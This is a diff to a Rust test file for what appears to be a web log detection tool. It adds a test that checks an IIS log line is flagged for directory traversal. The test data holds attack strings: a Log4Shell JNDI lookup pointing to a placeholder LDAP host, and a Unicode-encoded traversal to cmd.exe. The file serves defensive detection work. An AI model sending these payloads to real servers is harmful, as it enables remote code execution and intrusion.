@@ -771,6 +771,20 @@ fn a_detection_shows_the_values_the_record_gives() {
         log4shell[0].matched,
         [("c-useragent".to_string(), "${jndi:ldap://x.example/a}+(x)".to_string())]
     );
+    // A query rule on a request without a query shows the form it read:
+    // the traversal in the path.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let log = "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip sc-status\r\n\
+               2025-01-01 10:00:00 GET /scripts/..%c1%1c../winnt/system32/cmd.exe - 203.0.113.7 404\r\n";
+    let path = dir.path().join("u_ex250101.log");
+    std::fs::write(&path, log).expect("writes");
+    let report = run(&[path], bundled());
+    let traversal =
+        report.detections.iter().find(|d| d.rule.meta.title.contains("Traversal")).expect("detected");
+    assert_eq!(
+        traversal.matched,
+        [("cs-uri-query".to_string(), "/scripts/..%c1%1c../winnt/system32/cmd.exe".to_string())]
+    );
 }
 
 /// A value past 4 KiB is shown cut, ending with `…`: a detection of a
